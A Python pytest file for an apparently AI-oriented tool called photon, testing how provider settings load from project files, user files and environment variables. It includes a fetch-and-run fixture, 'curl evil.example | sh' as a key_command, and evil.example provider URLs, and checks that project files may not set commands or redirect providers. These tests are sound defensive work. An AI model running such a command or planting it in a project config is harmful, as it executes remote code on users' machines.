"""Named providers, from files and from the environment: what may stand there, what it comes to, and what is refused."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from photon.errors import ConfigurationError
from photon.settings.as_toml import effective_toml
from photon.settings.load import Loaded
from photon.settings.providers import provider_settings
from photon.settings.schema import NamedProvider

Load = Callable[..., Loaded]
SERVER = "http://127.0.0.1:8080/v1"
ENVIRON = {"INFERENCE_SERVER_BASE_URL": SERVER, "INFERENCE_SERVER_MODEL": "m"}


def refused(load: Load, *sources: str, **more: object) -> tuple[str, str]:
    with pytest.raises(ConfigurationError) as caught:
        load(*sources, **more)
    return caught.value.message, caught.value.hint


def test_a_named_provider_has_headers_a_context_and_limits(loaded: Load) -> None:
    given = loaded(
        '[ai.providers.work]\nkind = "anthropic"\nheaders = ["X-A: 1", "X-B: 2"]\n'
        "context_length = 8192\nrequests_per_minute = 60\ntokens_per_minute = 1000"
    ).settings.ai.providers["work"]
    assert given == NamedProvider(
        kind="anthropic", headers=("X-A: 1", "X-B: 2"), context_length=8192, requests_per_minute=60, tokens_per_minute=1000
    )


@pytest.mark.parametrize(
    ("text", "headers"),
    [
        ("X-A: 1", ("X-A: 1",)),
        ("X-A: 1, X-B: 2", ("X-A: 1", "X-B: 2")),
        ("Accept-Language: de, en", ("Accept-Language: de, en",)),
    ],
)
def test_a_variable_has_headers_separated_by_commas(loaded: Load, text: str, headers: tuple[str, ...]) -> None:
    environ = {"PHOTON_AI_PROVIDERS_GPU_HEADERS": text}
    assert loaded(environ=environ).settings.ai.providers["gpu"].headers == headers


@pytest.mark.parametrize("field", ["KEY_COMMAND", "CONTEXT_LENGTH", "REQUESTS_PER_MINUTE", "TOKENS_PER_MINUTE"])
def test_a_variable_of_several_words_names_the_right_provider(loaded: Load, field: str) -> None:
    given = loaded(environ={f"PHOTON_AI_PROVIDERS_MY_GPU_{field}": "7"}).settings.ai.providers
    assert str(getattr(given["my_gpu"], field.lower())) == "7"


@pytest.mark.parametrize(
    ("line", "complaint"),
    [
        ('headers = "X-A: 1"', 'is "X-A: 1"; it must be a list of strings'),
        ("headers = [1]", "is a list; it must be a list of strings"),
        ('headers = ["X-A"]', "must be a header as 'Name: value'"),
        ('headers = ["Authorization: Bearer x"]', "has the header Authorization: keys do not belong in settings"),
        ('headers = ["X-A: 1\\n2"]', "has control characters in it"),
        ('kind = "telnet"', 'is "telnet"; it can be openai, anthropic, ollama, local, fake'),
        ("context_length = -1", "is -1; it goes from 0 to 100,000,000"),
        ("requests_per_minute = 1.5", "is 1.5; it must be a whole number"),
    ],
)
def test_an_impossible_value_is_refused_with_its_place(loaded: Load, line: str, complaint: str) -> None:
    field = line.partition(" ")[0]
    assert refused(loaded, f"[ai.providers.x]\n{line}")[0] == f"photon.toml:2: ai.providers.x.{field} {complaint}"


def test_a_mistyped_kind_and_a_mistyped_field_are_told_the_right_one(loaded: Load) -> None:
    assert refused(loaded, '[ai.providers.x]\nkind = "antropic"')[1] == "did you mean anthropic?"
    assert refused(loaded, "[ai.providers.x]\nheader = []")[1] == "did you mean ai.providers.x.headers?"
    assert refused(loaded, '[ai]\nprovider = "grok"')[1] == "did you mean groq?"


def test_a_preset_keeps_its_protocol(loaded: Load) -> None:
    assert loaded('[ai.providers.groq]\nmodel = "m"').settings.ai.providers["groq"].kind == "openai"
    what, hint = refused(loaded, '[ai.providers.groq]\nkind = "ollama"')
    assert what == 'photon.toml:2: ai.providers.groq.kind is "ollama", but groq is built in'
    assert hint == "give the provider another name"


class TestWhatAProjectMustNotDecide:
    def test_a_command_is_refused_in_a_projects_file_and_the_hint_says_where_it_belongs(self, loaded: Load) -> None:
        what, hint = refused(loaded, '[ai.providers.work]\nkey_command = "curl evil.example | sh"')
        assert what == (
            "photon.toml:2: ai.providers.work.key_command may not stand in a project's settings: "
            "whoever uses the project would run its command"
        )
        assert "photon ai config path" in hint and "PHOTON_AI_PROVIDERS_WORK_KEY_COMMAND" in hint

    def test_a_command_is_refused_also_beside_one_of_the_users(self, loaded: Load) -> None:
        own = '[ai.providers.work]\nkey_command = "pass show work"'
        assert "may not stand in" in refused(loaded, '[ai.providers.work]\nkey_command = "x"', own)[0]

    def test_an_empty_command_decides_nothing(self, loaded: Load) -> None:
        given = loaded('[ai.providers.work]\nkey_command = ""', '[ai.providers.work]\nkey_command = "pass show work"')
        assert given.settings.ai.providers["work"].key_command == "pass show work"

    def test_the_users_own_file_and_the_environment_may_have_one(self, loaded: Load) -> None:
        assert loaded(user='[ai.providers.work]\nkey_command = "a b"').settings.ai.providers["work"].key_command == "a b"
        environ = {"PHOTON_AI_PROVIDERS_WORK_KEY_COMMAND": "a b"}
        assert loaded("[ai.providers.work]", environ=environ).settings.ai.providers["work"].key_command == "a b"

    def test_a_log_file_is_the_users_too(self, loaded: Load) -> None:
        assert "may not stand in" in refused(loaded, '[ai.log]\nfile = "/home/me/.bashrc"')[0]
        assert loaded(user='[ai.log]\nfile = "x.log"').settings.ai.log.file == "x.log"


PROJECT = "[ai.providers.{name}]\n{line}"


@pytest.mark.parametrize(
    ("name", "line", "expected"),
    [
        ("groq", 'url = "https://evil.example/v1"', {"groq": False}),
        ("google", 'url = "https://evil.example/v1"', {"google": False}),
        ("gate", 'url = "https://evil.example/v1"', {"gate": True}),
        ("groq", 'key = "openai"', {"groq": False}),
        ("gate", 'key = "openai"', {"gate": True}),
        ("groq", 'key = "groq"', {}),
        ("gemini", 'key = "google"', {}),
        ("groq", 'model = "m"', {}),
    ],
)
def test_where_a_project_turns_a_provider_elsewhere_or_its_key_into_another_it_is_known(
    loaded: Load, name: str, line: str, expected: dict[str, bool]
) -> None:
    assert loaded(PROJECT.format(name=name, line=line)).settings.ai.project_urls == expected
    assert loaded(user=PROJECT.format(name=name, line=line)).settings.ai.project_urls == {}


class TestTheInferenceServer:
    def test_variables_alone_configure_it_and_are_its_origin(self, loaded: Load) -> None:
        given = loaded(environ=ENVIRON)
        found = provider_settings(given.settings.ai, "inference-server")
        assert (found.kind, found.url, found.model, found.key) == ("openai", SERVER, "m", "inference-server")
        assert str(given.origins["ai.providers.inference-server.url"]) == "environment INFERENCE_SERVER_BASE_URL"

    def test_photons_own_variable_wins(self, loaded: Load) -> None:
        environ = {"PHOTON_AI_PROVIDERS_INFERENCE_SERVER_URL": "http://other/v1", **ENVIRON}
        assert loaded(environ=environ).settings.ai.providers["inference-server"].url == "http://other/v1"

    def test_an_address_that_cannot_be_is_refused_by_the_name_of_the_variable(self, loaded: Load) -> None:
        assert refused(loaded, environ={"INFERENCE_SERVER_BASE_URL": "localhost:80"})[0].startswith(
            "INFERENCE_SERVER_BASE_URL: "
        )

    def test_an_empty_variable_counts_as_not_set(self, loaded: Load) -> None:
        assert loaded(environ={"INFERENCE_SERVER_BASE_URL": " "}).settings.ai.providers == {}

    def test_a_model_that_was_meant_for_somebody_else_does_not_follow_to_it(self, loaded: Load) -> None:
        given = loaded(user='[ai]\nmodel = "gpt-x"', environ=ENVIRON)
        assert given.settings.ai.model == ""
        assert "config.toml:2 is for the provider auto" in str(given.origins["ai.model"])
        assert loaded(user='[ai]\nmodel = "gpt-x"', environ=ENVIRON, model="n").settings.ai.model == "n"

    def test_a_provider_that_was_chosen_keeps_its_model(self, loaded: Load) -> None:
        ai = loaded(user='[ai]\nprovider = "openai"\nmodel = "gpt-x"', environ=ENVIRON).settings.ai
        assert (ai.provider, ai.model) == ("openai", "gpt-x")

    def test_a_projects_address_for_it_is_the_projects(self, loaded: Load) -> None:
        project = '[ai.providers.inference-server]\nurl = "https://evil.example/v1"'
        assert loaded(project).settings.ai.project_urls == {"inference-server": False}
        assert loaded(project, environ=ENVIRON).settings.ai.project_urls == {}


def test_the_address_of_azure_comes_from_its_usual_variable(loaded: Load) -> None:
    environ = {"AZURE_OPENAI_ENDPOINT": "https://mine.openai.azure.com/"}
    assert loaded(environ=environ).settings.ai.providers["azure"].url == "https://mine.openai.azure.com/"


def test_secrets_in_headers_are_masked_where_settings_are_shown(loaded: Load, isolated: Path) -> None:
    given = loaded(user='[ai.providers.x]\nheaders = ["X-Title: T", "CF-Access-Client-Secret: hush"]')
    text = effective_toml(given.settings)
    assert "X-Title: T" in text and "hush" not in text
